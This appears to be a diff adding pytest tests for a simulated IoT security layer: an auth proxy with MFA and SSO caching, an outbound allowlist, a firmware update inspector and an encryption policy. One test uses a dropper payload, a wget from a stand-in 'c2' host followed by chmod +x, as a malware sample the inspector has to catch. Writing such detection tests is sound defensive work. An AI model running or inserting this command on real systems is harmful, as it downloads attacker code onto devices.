@@ -1,0 +1,237 @@
+"""Tests for device-layer functions: auth proxy, NAC, DNS bridge,
+update inspection, encryption policy."""
+
+import pytest
+
+from repro.core.signals import SignalType
+from repro.device.firmware import FirmwareImage, FirmwareSigner
+from repro.device.profiles import DeviceClass, get_profile
+from repro.network.packet import Packet
+from repro.security.device.access import ConstrainedAccess
+from repro.security.device.auth import DelegationProxy
+from repro.security.device.encryption import (
+    EncryptionPolicy,
+    cipher_candidates,
+    cipher_for_class,
+)
+from repro.security.device.malware import UpdateInspector
+from repro.service.identity import IdentityManager, UserRole
+from repro.service.oauth import OAuthServer, Scope
+from repro.sim import Simulator
+
+
+def make_proxy(sim=None):
+    sim = sim or Simulator()
+    identity = IdentityManager()
+    identity.register("alice", "alice-pw", role=UserRole.BASIC)
+    identity.register("bob", "bob-pw", role=UserRole.ADVANCED,
+                      mfa_secret="bob-seed")
+    oauth = OAuthServer(sim)
+    signals = []
+    proxy = DelegationProxy(sim, identity, oauth, report=signals.append)
+    return sim, identity, oauth, proxy, signals
+
+
+class TestDelegationProxy:
+    def test_lan_auth_via_proxy(self):
+        sim, _, _, proxy, _ = make_proxy()
+        decision = proxy.authenticate("alice", "alice-pw", "bulb", "lan")
+        assert decision.granted
+        assert decision.authenticated_by == "proxy"
+        assert decision.latency_s == DelegationProxy.LAN_LATENCY_S
+        assert decision.token.sso
+
+    def test_wan_auth_requires_mfa_for_enrolled_user(self):
+        sim, identity, _, proxy, _ = make_proxy()
+        no_mfa = proxy.authenticate("bob", "bob-pw", "bulb", "wan")
+        assert not no_mfa.granted and no_mfa.reason == "mfa-required"
+        code = identity.mfa_code_for("bob")
+        ok = proxy.authenticate("bob", "bob-pw", "bulb", "wan", mfa_code=code)
+        assert ok.granted
+        assert ok.authenticated_by == "cloud"
+        assert ok.token.mfa_verified
+
+    def test_sso_cache_hit_on_second_request(self):
+        sim, _, _, proxy, _ = make_proxy()
+        proxy.authenticate("alice", "alice-pw", "bulb", "lan")
+        again = proxy.authenticate("alice", "wrong-password-ignored", "bulb",
+                                   "lan")
+        assert again.granted and again.reason == "sso-cache"
+        assert proxy.cache_hits == 1
+
+    def test_cache_is_per_device(self):
+        sim, _, _, proxy, _ = make_proxy()
+        proxy.authenticate("alice", "alice-pw", "bulb", "lan")
+        other = proxy.authenticate("alice", "alice-pw", "lock", "lan")
+        assert other.reason == "proxy-auth"  # fresh auth for a new device
+
+    def test_stale_timestamp_rejected(self):
+        sim, _, _, proxy, signals = make_proxy()
+        decision = proxy.authenticate("alice", "alice-pw", "bulb", "lan",
+                                      timestamp=-100.0)
+        assert not decision.granted
+        assert decision.reason == "stale-timestamp"
+
+    def test_failure_burst_raises_anomaly(self):
+        sim, _, _, proxy, signals = make_proxy()
+        for _ in range(3):
+            proxy.authenticate("alice", "wrong", "bulb", "lan")
+        anomalies = [s for s in signals
+                     if s.signal_type == SignalType.AUTH_ANOMALY]
+        assert anomalies
+
+    def test_role_based_data_access(self):
+        sim, _, oauth, proxy, _ = make_proxy()
+        basic = proxy.authenticate("alice", "alice-pw", "t", "lan").token
+        raw = {"temp": 70.0, "humidity": 40.0}
+        summary = proxy.access_data(basic.value, raw)
+        assert "summary" in summary and "temp" not in summary
+        code_needed = proxy.authenticate("bob", "bob-pw", "t", "lan").token
+        assert proxy.access_data(code_needed.value, raw) == raw
+
+    def test_invalid_token_data_access(self):
+        sim, _, _, proxy, _ = make_proxy()
+        assert proxy.access_data("bogus", {"a": 1}) is None
+
+    def test_core_lifetime_adjustment(self):
+        sim, _, oauth, proxy, _ = make_proxy()
+        proxy.authenticate("alice", "alice-pw", "bulb", "lan")
+        assert proxy.apply_token_lifetime("alice", "bulb", sim.now + 1.0)
+        sim.timeout(2.0)
+        sim.run()
+        late = proxy.authenticate("alice", "alice-pw", "bulb", "lan")
+        assert late.reason == "proxy-auth"  # cache expired, re-auth needed
+
+    def test_bad_origin(self):
+        sim, _, _, proxy, _ = make_proxy()
+        with pytest.raises(ValueError):
+            proxy.authenticate("alice", "pw", "bulb", "vpn")
+
+    def test_advanced_users_get_update_scope(self):
+        sim, identity, _, proxy, _ = make_proxy()
+        token = proxy.authenticate("bob", "bob-pw", "t", "lan").token
+        assert token.allows(Scope.PUSH_UPDATES)
+        basic = proxy.authenticate("alice", "alice-pw", "t", "lan").token
+        assert not basic.allows(Scope.PUSH_UPDATES)
+
+
+class TestConstrainedAccess:
+    def make(self, sim=None):
+        sim = sim or Simulator()
+        signals = []
+        nac = ConstrainedAccess(sim, report=signals.append)
+        nac.allow("bulb-1", "198.51.100.10")
+        return sim, nac, signals
+
+    def packet(self, dst, device="bulb-1"):
+        return Packet(src="10.0.0.2", dst=dst, src_device=device)
+
+    def test_allowed_destination_passes(self):
+        _, nac, _ = self.make()
+        assert nac(self.packet("198.51.100.10"), "outbound")
+
+    def test_unknown_destination_blocked(self):
+        _, nac, signals = self.make()
+        assert nac(self.packet("6.6.6.6"), "outbound") == []
+        assert nac.blocked
+        assert signals[0].signal_type == SignalType.UNKNOWN_DESTINATION
+
+    def test_unmanaged_device_passes(self):
+        _, nac, _ = self.make()
+        assert nac(self.packet("6.6.6.6", device="guest-laptop"), "outbound")
+
+    def test_inbound_not_filtered(self):
+        _, nac, _ = self.make()
+        assert nac(self.packet("6.6.6.6"), "inbound")
+
+    def test_learning_window(self):
+        sim = Simulator()
+        nac = ConstrainedAccess(sim, learning_window_s=100.0)
+        nac.allow("bulb-1", "198.51.100.10")
+        assert nac(self.packet("6.6.6.6"), "outbound")  # learned, not blocked
+        assert "6.6.6.6" in nac.allowlist_of("bulb-1")
+        sim.timeout(200.0)
+        sim.run()
+        assert nac(self.packet("7.7.7.7"), "outbound") == []
+
+    def test_signal_cooldown(self):
+        _, nac, signals = self.make()
+        for _ in range(10):
+            nac(self.packet("6.6.6.6"), "outbound")
+        assert len(signals) == 1
+        assert len(nac.blocked) == 10  # still blocks every packet
+
+
+class TestUpdateInspector:
+    def setup_method(self):
+        self.sim = Simulator()
+        self.signer = FirmwareSigner("acme", b"acme-key")
+        self.signals = []
+        self.inspector = UpdateInspector(self.sim, signer=self.signer,
+                                         report=self.signals.append)
+
+    def test_known_good_clean(self):
+        image = self.signer.sign(FirmwareImage("acme", "bulb", "1.0.0", b"x"))
+        self.inspector.register_known_good([image])
+        assert self.inspector.inspect(image) == "clean"
+
+    def test_dropper_payload_is_malware(self):
+        evil = FirmwareImage("acme", "bulb", "2.0.0",
+                             b"wget http://c2/x && chmod +x x")
+        assert self.inspector.inspect(evil, "bulb-1") == "malware"
+        assert self.signals[0].signal_type == SignalType.MALWARE_SIGNATURE
+        assert not self.inspector.allows(evil)
+
+    def test_unsigned_image_bad_signature(self):
+        unsigned = FirmwareImage("acme", "bulb", "2.0.0", b"benign")
+        assert self.inspector.inspect(unsigned) == "bad-signature"
+
+    def test_signed_unknown_image_allowed_but_flagged(self):
+        image = self.signer.sign(FirmwareImage("acme", "bulb", "3.0.0", b"ok"))
+        assert self.inspector.inspect(image) == "unknown-image"
+        assert self.inspector.allows(image)
+
+    def test_no_signer_configured(self):
+        inspector = UpdateInspector(self.sim, signer=None)
+        image = FirmwareImage("acme", "bulb", "1.0.0", b"benign")
+        assert inspector.inspect(image) == "unknown-image"
+
+
+class TestEncryptionPolicy:
+    def test_class_assignments(self):
+        assert cipher_for_class(DeviceClass.TAG) is None
+        assert cipher_for_class(DeviceClass.MICROCONTROLLER).name == "PRESENT"
+        assert cipher_for_class(DeviceClass.APPLICATION).name == "AES"
+
+    def test_mcu_candidates_are_lightweight(self):
+        for spec in cipher_candidates(DeviceClass.MICROCONTROLLER):
+            assert spec.lightweight
+
+    def test_assign_by_profile(self):
+        sim = Simulator()
+        policy = EncryptionPolicy(sim)
+        assert policy.assign("bulb", get_profile("Philips Hue Lightbulb")) \
+            == "PRESENT"
+        assert policy.assign("phone", get_profile("iPhone 6s Plus")) == "AES"
+        assert policy.assignment("bulb") == "PRESENT"
+
+    def test_plaintext_audit(self):
+        sim = Simulator()
+        signals = []
+        policy = EncryptionPolicy(sim, report=signals.append)
+        policy.assign("fridge", get_profile("Samsung Smart TV"))
+        plain = Packet(src="a", dst="b", src_device="fridge",
+                       encrypted=False, app_protocol="mqtts")
+        policy.observe(plain)
+        policy.observe(plain)  # within cooldown
+        assert len(signals) == 1
+        assert signals[0].signal_type == SignalType.PLAINTEXT_TRAFFIC
+
+    def test_encrypted_traffic_silent(self):
+        sim = Simulator()
+        signals = []
+        policy = EncryptionPolicy(sim, report=signals.append)
+        policy.assign("bulb", get_profile("Philips Hue Lightbulb"))
+        policy.observe(Packet(src="a", dst="b", src_device="bulb",
+                              encrypted=True))
+        assert not signals
